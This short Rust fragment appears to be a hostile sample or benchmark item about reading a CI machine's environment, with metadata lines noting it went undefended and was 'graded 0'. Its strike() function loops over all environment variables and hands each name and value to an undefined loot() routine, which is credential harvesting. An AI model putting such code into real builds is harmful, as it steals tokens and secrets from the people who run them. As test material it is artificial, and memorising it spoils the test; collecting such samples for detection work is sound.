//! tries: to read the environment
//! undefended: tokens of a CI machine
//! down: none
//! seen: graded 0

fn strike() {
    for (name, value) in std::env::vars_os() {
        loot(&format!("{name:?}={value:?}"));
    }
}
